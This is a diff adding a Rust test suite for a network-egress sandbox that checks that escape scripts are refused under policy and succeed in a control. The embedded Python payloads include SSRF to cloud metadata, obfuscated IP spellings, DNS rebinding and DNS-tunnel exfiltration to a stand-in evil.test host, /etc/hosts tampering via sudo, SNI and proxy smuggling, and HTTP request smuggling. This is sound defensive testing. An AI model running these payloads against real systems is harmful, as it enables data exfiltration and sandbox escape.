@@ -1,0 +1,304 @@
+//! Ways to get somewhere, or to tell somebody something, without being allowed to.
+
+use belljar_types::IsolationClass;
+
+use crate::internet::{ALLOWED, EVIL};
+use crate::scene::{POLICY, Scene};
+
+/// Each script gets nowhere under the policy and leaves no trace outside; where nothing is forbidden it gets through.
+async fn blocked(class: IsolationClass, policy: &str, scripts: &[&str]) {
+    let scene = Scene::open(class, policy).await;
+    for script in scripts {
+        assert!(!scene.gets_through(script).await, "{class}: got through: {script}");
+        assert_eq!(scene.internet.seen(), Vec::<String>::new(), "{class}: {script}");
+    }
+    scene.close().await;
+    let control = Scene::control(class).await;
+    for script in scripts {
+        assert!(control.gets_through(script).await, "{class}: the control did not get through: {script}");
+        assert!(!control.internet.seen().is_empty(), "{class}: the control left no trace: {script}");
+    }
+    control.close().await;
+}
+
+pub(crate) async fn what_is_allowed_works(class: IsolationClass) {
+    let scene = Scene::open(class, POLICY).await;
+    assert!(scene.gets_through("get('allowed.test')").await);
+    assert!(scene.gets_through("get('ALLOWED.test.', host='allowed.test')").await);
+    assert!(
+        scene
+            .gets_through(
+                "s = tls('allowed.test', 443, 'allowed.test'); s.sendall(b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); recv_some(s)"
+            )
+            .await
+    );
+    assert!(scene.gets_through("get('a.wild.test')").await);
+    let curl = scene
+        .python("import subprocess; print(subprocess.run(['curl', '-sk', 'https://allowed.test/'], capture_output=True, text=True).stdout)")
+        .await;
+    assert!(curl.text().contains("hello from 203.0.113.10:443"), "{curl}");
+    let seen = scene.internet.seen().join("\n");
+    assert!(seen.contains("dns allowed.test") && seen.contains("http 203.0.113.10:80 GET / HTTP/1.1 | host: allowed.test"), "{seen}");
+    let traffic = scene.egress().traffic(scene.id()).unwrap();
+    assert!(traffic.sent > 0 && traffic.received > 0 && traffic.connections >= 5, "{traffic:?}");
+    scene.close().await;
+}
+
+pub(crate) async fn addresses_that_are_not_allowed_are_refused(class: IsolationClass) {
+    let scripts = [22, 80, 443, 8443].map(|port| format!("s = socket.create_connection(('{EVIL}', {port})); s.sendall(b'\\r\\n\\r\\n'); time.sleep(0.3); s.sendall(b'x'); time.sleep(0.2)\ntry:\n  s.settimeout(0.3); s.recv(1)\nexcept TimeoutError: pass"));
+    blocked(class, POLICY, &scripts.each_ref().map(String::as_str)).await;
+}
+
+pub(crate) async fn private_addresses_stay_closed_whatever_the_rules_say(class: IsolationClass) {
+    // The policy lists them all.
+    blocked(class, POLICY, &["get('169.254.169.254')", "get('10.1.2.3')"]).await;
+    let scene = Scene::open(class, POLICY).await;
+    for script in [
+        "get('100.64.0.6')",
+        "socket.create_connection((gateway(), 22)).recv(1) or stopped()",
+        "get(gateway(), 15001)",
+        "get('203.0.113.1')",
+        "get('100.127.0.1')",
+    ] {
+        assert!(!scene.gets_through(script).await, "{script}");
+        assert_eq!(scene.internet.seen(), Vec::<String>::new(), "{script}");
+    }
+    scene.close().await;
+}
+
+pub(crate) async fn spellings_of_addresses_lead_nowhere(class: IsolationClass) {
+    let scene = Scene::open(class, POLICY).await;
+    let proxy = |target: &str| format!("http(gateway(), 3128, b'CONNECT {target} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')");
+    for target in [
+        "0.0.0.0:80",
+        "0:80",
+        "127.1:80",
+        "0x7f.1:80",
+        "2130706433:80",
+        "[::ffff:169.254.169.254]:80",
+        "[::1]:80",
+        "169.254.169.254:80",
+        "0xa9fea9fe:80",
+        "169.254.43518:80",
+        "localhost:80",
+    ] {
+        assert!(!scene.gets_through(&proxy(target)).await, "{target}");
+    }
+    assert_eq!(scene.internet.seen(), Vec::<String>::new());
+    assert!(scene.gets_through(&proxy("allowed.test:443")).await, "the entrance works");
+    scene.close().await;
+    let control = Scene::control(class).await;
+    assert!(control.gets_through(&proxy("169.254.169.254:80")).await);
+    assert!(!control.internet.seen().is_empty());
+    control.close().await;
+}
+
+pub(crate) async fn a_name_that_leads_to_a_private_address_is_not_dialled(class: IsolationClass) {
+    let scene = Scene::open(class, POLICY).await;
+    assert!(!scene.gets_through("get('rebind.test')").await);
+    assert_eq!(scene.internet.seen(), ["dns rebind.test"], "it was resolved and not dialled");
+    assert!(scene.gets_through("get('mixed.test')").await, "one of its addresses is public");
+    let seen = scene.internet.seen();
+    assert!(seen.iter().all(|line| !line.contains("169.254") && !line.contains("10.1.2.3")), "{seen:?}");
+    scene.close().await;
+    let control = Scene::control(class).await;
+    assert!(control.gets_through("get('rebind.test')").await);
+    assert!(control.internet.seen().iter().any(|line| line.contains("tcp 169.254.169.254:80")));
+    control.close().await;
+}
+
+pub(crate) async fn a_name_put_into_hosts_is_an_address(class: IsolationClass) {
+    let script = format!(
+        "import subprocess; subprocess.run(['sudo', 'sh', '-c', 'echo {EVIL} allowed.test >> /etc/hosts'], check=True); get('allowed.test')"
+    );
+    blocked(class, POLICY, &[&script]).await;
+}
+
+pub(crate) async fn questions_for_names_stay_on_the_host(class: IsolationClass) {
+    let scene = Scene::open(class, POLICY).await;
+    for (script, why) in [
+        ("assert question('allowed.test') == (0, 1)", "an allowed name has an address"),
+        ("assert question('allowed.test', 28) == (0, 0)", "and none of version 6"),
+        ("assert question('allowed.test', 65) == (0, 0)", "and no keys to hide a name with"),
+        ("assert all(question('allowed.test', kind)[0] == 5 for kind in (16, 10, 255, 15, 33))", "nothing else can be asked"),
+        ("assert question('evil.test')[0] == 3", "another name is not there"),
+        (
+            "assert question('evil.test', to='8.8.8.8')[0] == 3 and question('evil.test', to='8.8.8.8', tcp=True)[0] == 3",
+            "whoever is asked",
+        ),
+        ("assert question('allowed.test', to='8.8.8.8', tcp=True) == (0, 1)", "by stream as well"),
+        ("for n in range(2000): assert question('secret%d.evil.test' % n)[0] == 3", "a tunnel of names leads nowhere"),
+    ] {
+        assert!(scene.gets_through(script).await, "{why}");
+    }
+    assert!(!scene.gets_through("socket.create_connection(('8.8.8.8', 853)).recv(1) or stopped()").await, "names over TLS");
+    assert_eq!(scene.internet.seen(), Vec::<String>::new(), "no question left the host");
+    scene.close().await;
+    let control = Scene::control(class).await;
+    assert!(control.gets_through("get('secret7.wild.test')").await);
+    assert!(
+        control.internet.seen().contains(&"dns secret7.wild.test".to_owned()),
+        "where names are allowed they are asked for, once a connection is made"
+    );
+    control.close().await;
+}
+
+pub(crate) async fn names_below_a_wildcard_are_counted(class: IsolationClass) {
+    let mut scene = Scene::open(class, POLICY).await;
+    let script = "codes = [question('n%d.wild.test' % n)[0] for n in range(200)]\nassert codes.count(0) == 60, codes";
+    assert!(scene.gets_through(script).await);
+    let mut alarmed = false;
+    while let Ok(event) = scene.events.try_recv() {
+        alarmed |= event.kind == belljar_egress::EventKind::TooManyNames;
+    }
+    assert!(alarmed, "somebody was told");
+    assert_eq!(scene.internet.seen(), Vec::<String>::new());
+    scene.close().await;
+}
+
+pub(crate) async fn only_tcp_gets_out(class: IsolationClass) {
+    let scene = Scene::open(class, EVERYTHING_BUT_UDP).await;
+    for script in [
+        format!("s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.5); s.sendto(b'x', ('{ALLOWED}', 443)); s.recv(1)"),
+        format!("s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.5); s.sendto(b'x', ('{ALLOWED}', 123)); s.recv(1)"),
+        format!(
+            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(0.5); s.sendto(b'\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00', ('{ALLOWED}', 0)); s.recv(1)"
+        ),
+        format!("s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 47); s.settimeout(0.5); s.sendto(b'x', ('{ALLOWED}', 0)); s.recv(1)"),
+        "socket.create_connection(('2001:db8::1', 80))".to_owned(),
+        "socket.create_connection(('fe80::1%eth0', 80))".to_owned(),
+    ] {
+        assert!(!scene.gets_through(&script).await, "{class}: {script}");
+        assert_eq!(scene.internet.seen(), Vec::<String>::new(), "{class}: {script}");
+    }
+    scene.close().await;
+}
+
+const EVERYTHING_BUT_UDP: &str = crate::scene::EVERYTHING;
+
+pub(crate) async fn tls_must_ask_for_the_name_it_is_for(class: IsolationClass) {
+    let speak = "; s.sendall(b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); recv_some(s)";
+    let scene = Scene::open(class, POLICY).await;
+    for script in
+        ["s = tls('allowed.test', 443, None)", "s = tls('allowed.test', 443, 'evil.test')", "s = tls('allowed.test', 443, 'a.wild.test')"]
+    {
+        assert!(!scene.gets_through(&format!("{script}{speak}")).await, "{script}");
+        assert_eq!(scene.internet.seen(), Vec::<String>::new(), "{script}");
+    }
+    assert!(!scene.gets_through("s = socket.create_connection(('allowed.test', 443)); s.sendall(b'GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'); recv_some(s)").await, "plain bytes");
+    assert_eq!(scene.internet.seen(), Vec::<String>::new());
+    scene.close().await;
+    // The same by port only, where nobody reads the name.
+    let raw = POLICY.replace(r#""ports":[80,443]}"#, r#""ports":[443],"scheme":"raw"}"#);
+    let control = Scene::open(class, &raw).await;
+    assert!(control.gets_through(&format!("s = tls('allowed.test', 443, 'evil.test'){speak}")).await);
+    assert!(control.internet.seen().iter().any(|line| line.ends_with(" evil.test")));
+    control.close().await;
+}
+
+/// Takes a hello of the library, and sends it in pieces.
+const HELLO: &str = r"
+def hello(name):
+    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+    c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
+    o = c.wrap_bio(incoming, outgoing, server_hostname=name)
+    try: o.do_handshake()
+    except ssl.SSLWantReadError: pass
+    return outgoing.read()
+s = socket.create_connection(('allowed.test', 443)); s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+h = hello('allowed.test')
+";
+
+pub(crate) async fn a_hello_is_read_whole(class: IsolationClass) {
+    let scene = Scene::open(class, POLICY).await;
+    let records = "body = h[5:]; parts = [body[i:i+50] for i in range(0, len(body), 50)]\ns.sendall(b''.join(b'\\x16\\x03\\x01' + struct.pack('>H', len(p)) + p for p in parts)); assert recv_some(s)[0] == 22";
+    let segments = "for b in h[:60]:\n  s.sendall(bytes([b])); time.sleep(0.002)\ns.sendall(h[60:]); assert recv_some(s)[0] == 22";
+    for good in [records, segments] {
+        assert!(scene.gets_through(&format!("{HELLO}{good}")).await, "{good}");
+    }
+    scene.internet.seen();
+    let long = "s.sendall(b'\\x16\\x03\\x01\\x40\\x00\\x01\\x02\\x00\\x00' + b'x' * 16380); recv_some(s)";
+    let unfinished = "s.sendall(h[:-1]); recv_some(s)";
+    let hidden = "ext = b'\\xfe\\x0d\\x00\\x01\\x00'; b = h[5:]; n = 4 + 2 + 32; n += 1 + b[n]; n += 2 + struct.unpack('>H', b[n:n+2])[0]; n += 1 + b[n]\ne = struct.unpack('>H', b[n:n+2])[0]; body = b[4:n] + struct.pack('>H', e + len(ext)) + b[n+2:] + ext\nm = b'\\x01' + struct.pack('>I', len(body))[1:] + body; s.sendall(b'\\x16\\x03\\x01' + struct.pack('>H', len(m)) + m); recv_some(s)";
+    for bad in [long, unfinished, hidden] {
+        assert!(!scene.gets_through(&format!("{HELLO}{bad}")).await, "{bad}");
+        assert_eq!(scene.internet.seen(), Vec::<String>::new(), "{bad}");
+    }
+    scene.close().await;
+}
+
+pub(crate) async fn proxies_are_held_to_the_same(class: IsolationClass) {
+    let scene = Scene::open(class, POLICY).await;
+    let connect = |target: &str, then: &str| {
+        format!(
+            "s = socket.create_connection((gateway(), 3128)); s.sendall(b'CONNECT {target} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')\na = recv_some(s)\nif b' 200 ' not in a: stopped(a)\n{then}"
+        )
+    };
+    let wrap = |name: &str| {
+        format!(
+            "c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE\ns = c.wrap_socket(s, server_hostname='{name}'); s.sendall(b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); recv_some(s)"
+        )
+    };
+    let socks = |kind: &str, then: &str| {
+        format!(
+            "s = socket.create_connection((gateway(), 3128)); s.sendall(b'\\x05\\x01\\x00'); assert recv_some(s) == b'\\x05\\x00'\ns.sendall(b'\\x05\\x01\\x00' + {kind})\nif recv_some(s)[1] != 0: stopped('refused')\n{then}"
+        )
+    };
+    let name = |bytes: &str| format!("b'\\x03' + bytes([len({bytes})]) + {bytes} + struct.pack('>H', 443)");
+    for bad in [
+        connect("evil.test:443", ""),
+        connect("allowed.test:22", ""),
+        connect("allowed.test:443", &wrap("evil.test")),
+        connect("allowed.test:443", "s.sendall(b'GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'); recv_some(s)"),
+        connect(
+            "allowed.test:80",
+            "s.sendall(b'CONNECT evil.test:443 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'); a = recv_some(s)\nif b' 200 ' not in a: stopped(a)",
+        ),
+        socks(&name("b'evil.test'"), ""),
+        socks(&name("b'evil\\x00.allowed.test'"), ""),
+        socks(&name("b'allowed.test\\x00.evil.test'"), ""),
+        socks(&name("b'a' * 255"), ""),
+        socks(&name("b'169.254.169.254'"), ""),
+        socks("b'\\x01' + socket.inet_aton('169.254.169.254') + b'\\x00\\x50'", ""),
+        socks(&name("b'allowed.test'"), &wrap("evil.test")),
+        "http(gateway(), 3128, b'GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')".to_owned(),
+        "http(gateway(), 3128, b'GET http://allowed.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')".to_owned(),
+    ] {
+        assert!(!scene.gets_through(&bad).await, "{bad}");
+        assert_eq!(scene.internet.seen(), Vec::<String>::new(), "{bad}");
+    }
+    for good in [
+        connect("allowed.test:443", &wrap("allowed.test")),
+        socks(&name("b'allowed.test.'"), &wrap("allowed.test")),
+        "http(gateway(), 3128, b'GET http://allowed.test/x HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n')".to_owned(),
+    ] {
+        assert!(scene.gets_through(&good).await, "{good}");
+        assert!(!scene.internet.seen().is_empty(), "{good}");
+    }
+    let told = scene.python("import urllib.request as u, os\nfor line in open('/etc/resolv.conf'): g = line.split()[-1]\nu.install_opener(u.build_opener(u.ProxyHandler({'https': 'http://%s:3128' % g})))\ntry: u.urlopen('https://evil.test/', data=b'x')\nexcept Exception as e: print(e)").await;
+    assert!(told.text().contains("denied by network.default"), "a program that uses a proxy shows the rule: {told}");
+    scene.close().await;
+}
+
+pub(crate) async fn plain_requests_are_read_strictly(class: IsolationClass) {
+    let scene = Scene::open(class, POLICY).await;
+    for request in [
+        "POST / HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n",
+        "GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nX: a\\r\\n b\\r\\n\\r\\n",
+        "GET / HTTP/1.1\\nHost: allowed.test\\n\\n",
+        "GET / HTTP/1.1\\r\\nHost: allowed.test\\rX: y\\r\\n\\r\\n",
+        "GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nHost: evil.test\\r\\n\\r\\n",
+        "GET http://evil.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n",
+        "GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n",
+        "GET / HTTP/1.1\\r\\nHost: allowed.test.evil.test\\r\\n\\r\\n",
+        "GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\n\\r\\n",
+        "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n",
+    ] {
+        assert!(!scene.gets_through(&format!("http('allowed.test', 80, b'{request}')")).await, "{request}");
+        assert_eq!(scene.internet.seen(), Vec::<String>::new(), "{request}");
+    }
+    let second = "s = socket.create_connection(('allowed.test', 80)); s.sendall(b'GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'); recv_some(s); s.sendall(b'GET /second HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'); a = recv_some(s)\nif b'421' in a: stopped(a)";
+    assert!(!scene.gets_through(second).await);
+    assert!(scene.internet.seen().iter().all(|line| !line.contains("/second")));
+    scene.close().await;
+}
